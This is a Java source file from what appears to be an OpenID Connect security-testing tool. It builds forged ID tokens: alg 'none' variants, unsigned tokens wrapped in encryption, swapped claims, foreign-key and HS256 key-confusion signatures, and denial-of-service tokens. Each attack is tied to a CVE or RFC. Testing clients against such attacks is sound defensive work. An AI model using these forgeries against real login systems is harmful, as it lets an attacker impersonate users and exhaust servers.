package io.github.psc4j.attack.internal;

import com.nimbusds.jose.util.JSONObjectUtils;
import io.github.psc4j.mock.extension.CompactJws;
import io.github.psc4j.mock.extension.JwsSigner;
import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.Base64;
import java.util.List;
import java.util.Map;

/** ID tokens that nobody signed, or somebody else, or whose signature was moved elsewhere. */
final class SignatureAttacks {

    private static final String FORGED = "anybody can make an ID token of any person";
    private static final String SIGNATURE = "OpenID Connect Core 3.1.3.7 (6), RFC 7515 5.2";
    private static final int ROUNDS = 1_000_000;
    private static final int SWOLLEN = 4 * 1024 * 1024;

    private SignatureAttacks() {}

    static List<AttackPlan> all() {
        return List.of(
                AttackPlan.of(
                                "V01-jwe-around-unsigned",
                                "encrypts an unsigned JWT and sends it as the ID token",
                                FORGED,
                                "CVE-2026-29000")
                        .idToken((context, token) -> EncryptedTokens.direct(
                                context.clientSecret(), EncryptedTokens.unsigned(forged(context, token)))),
                AttackPlan.of(
                                "V01-jwe-around-json",
                                "encrypts bare claims and sends them as the ID token",
                                FORGED,
                                "CVE-2026-29000")
                        .idToken((context, token) -> EncryptedTokens.direct(
                                context.clientSecret(), JSONObjectUtils.toJSONString(forged(context, token)))),
                AttackPlan.of(
                                "V01-jwe-around-jwe",
                                "encrypts an unsigned JWT twice and sends it as the ID token",
                                FORGED,
                                "CVE-2026-29000")
                        .idToken((context, token) -> EncryptedTokens.direct(
                                context.clientSecret(),
                                EncryptedTokens.direct(
                                        context.clientSecret(), EncryptedTokens.unsigned(forged(context, token))))),
                AttackPlan.of("V02-none", "sends an ID token with alg none and no signature", FORGED, "RFC 8725 3.1")
                        .idToken((context, token) -> EncryptedTokens.unsigned(forged(context, token))),
                AttackPlan.of("V02-none-in-another-case", "sends an ID token with alg nOnE", FORGED, "RFC 8725 3.1")
                        .idToken((context, token) -> unsigned(context, token, "nOnE")),
                AttackPlan.of("V02-none-with-spaces", "sends an ID token with alg \" none \"", FORGED, "RFC 8725 3.1")
                        .idToken((context, token) -> unsigned(context, token, " none ")),
                AttackPlan.of(
                                "V02-no-algorithm",
                                "sends an ID token without alg and without a signature",
                                FORGED,
                                "RFC 7515 4.1.1")
                        .idToken((context, token) -> new CompactJws(
                                        Map.of("typ", "JWT"), JSONObjectUtils.toJSONString(forged(context, token)), "")
                                .compact()),
                AttackPlan.of("V03-bit-flipped", "flips one bit of the ID token's signature", FORGED, "CVE-2021-22573")
                        .idToken((context, token) ->
                                token.withSignature(flipped(token.signature())).compact()),
                AttackPlan.of(
                                "V03-claims-exchanged",
                                "puts another person's claims under the signature of this one",
                                FORGED,
                                "CVE-2021-22573")
                        .idToken((context, token) -> token.withPayload(
                                        JSONObjectUtils.toJSONString(forged(context, token)))
                                .compact()),
                AttackPlan.of(
                                "V03-header-changed",
                                "changes the ID token's header after it was signed",
                                FORGED,
                                SIGNATURE)
                        .idToken((context, token) ->
                                token.withHeader("typ", "at+jwt").compact()),
                AttackPlan.of("V03-signature-left-out", "leaves the signature of the ID token empty", FORGED, SIGNATURE)
                        .idToken((context, token) -> token.withPayload(
                                        JSONObjectUtils.toJSONString(forged(context, token)))
                                .withSignature("")
                                .compact()),
                AttackPlan.of(
                                "V03-foreign-key",
                                "signs the ID token with a key of its own under the provider's kid",
                                FORGED,
                                SIGNATURE)
                        .idToken((context, token) -> token.withPayload(
                                        JSONObjectUtils.toJSONString(forged(context, token)))
                                .signed(context.attacker().signer())
                                .compact()),
                AttackPlan.of(
                                "V03-foreign-key-without-kid",
                                "signs the ID token with a key of its own and names no kid",
                                FORGED,
                                SIGNATURE)
                        .idToken((context, token) -> new CompactJws(
                                        Map.of("alg", "RS256"),
                                        JSONObjectUtils.toJSONString(forged(context, token)),
                                        "")
                                .signed(context.attacker().signer())
                                .compact()),
                hmac("V04-hs256-pem", "the PEM text of the provider's public key", SignatureAttacks::pem),
                hmac("V04-hs256-der", "the DER bytes of the provider's public key", SignatureAttacks::der),
                hmac(
                        "V04-hs256-jwk",
                        "the JWK text of the provider's public key",
                        context -> context.providerKey()
                                .toPublicJWK()
                                .toJSONString()
                                .getBytes(StandardCharsets.UTF_8)),
                hmac(
                        "V04-hs256-modulus",
                        "the modulus of the provider's public key",
                        context -> context.providerKey().getModulus().decode()),
                hmac(
                        "V04-hs256-secret",
                        "the client secret",
                        context -> nonEmpty(context.clientSecret().getBytes(StandardCharsets.UTF_8))),
                AttackPlan.of(
                                "V12-password-based-encryption",
                                "encrypts an ID token with a key that takes a million rounds to derive",
                                "one token keeps a processor busy for as long as the attacker likes",
                                "CVE-2023-52428, CVE-2022-36083")
                        .idToken((context, token) ->
                                EncryptedTokens.derived(context.clientSecret(), ROUNDS, token.compact())),
                AttackPlan.of(
                                "V13-compressed-encryption",
                                "encrypts an ID token that decompresses to 4 MiB",
                                "one small token fills the memory",
                                "CVE-2024-28176")
                        .idToken((context, token) -> EncryptedTokens.compressed(
                                context.clientSecret(), token.compact() + " ".repeat(SWOLLEN))));
    }

    private static AttackPlan hmac(String id, String key, java.util.function.Function<AttackContext, byte[]> bytes) {
        return AttackPlan.of(
                        id,
                        "signs the ID token with HS256 and " + key,
                        FORGED,
                        id.endsWith("secret") ? "RFC 8725 3.1, provider's list of algorithms" : "CVE-2015-9235")
                .idToken((context, token) -> token.withHeader("alg", "HS256")
                        .withPayload(JSONObjectUtils.toJSONString(forged(context, token)))
                        .signed(JwsSigner.hmac(bytes.apply(context)))
                        .compact());
    }

    /** Signed with what everybody knows. */
    static String byPublicKey(AttackContext context, CompactJws token) {
        return token.withHeader("alg", "HS256")
                .signed(JwsSigner.hmac(pem(context)))
                .compact();
    }

    private static String unsigned(AttackContext context, CompactJws token, String algorithm) {
        return token.withHeader("alg", algorithm)
                .withPayload(JSONObjectUtils.toJSONString(forged(context, token)))
                .withSignature("")
                .compact();
    }

    /** Forged, and nothing but the signature gives it away: the subject is that of the userinfo. */
    private static Map<String, Object> forged(AttackContext context, CompactJws token) {
        return token.withClaim("given_name", context.otherPerson().id()).claims();
    }

    private static String flipped(String signature) {
        byte[] bytes = Base64.getUrlDecoder().decode(signature);
        byte[] copy = Arrays.copyOf(bytes, bytes.length);
        copy[copy.length / 2] ^= 1;
        return CompactJws.encode(copy);
    }

    private static byte[] der(AttackContext context) {
        try {
            return context.providerKey().toRSAPublicKey().getEncoded();
        } catch (com.nimbusds.jose.JOSEException e) {
            throw new IllegalStateException(e);
        }
    }

    private static byte[] pem(AttackContext context) {
        return ("-----BEGIN PUBLIC KEY-----\n"
                        + Base64.getMimeEncoder(64, new byte[] {'\n'}).encodeToString(der(context))
                        + "\n-----END PUBLIC KEY-----\n")
                .getBytes(StandardCharsets.US_ASCII);
    }

    /** A client with a certificate has no secret; some library would take the empty one. */
    static byte[] nonEmpty(byte[] key) {
        return key.length == 0 ? new byte[1] : key;
    }
}
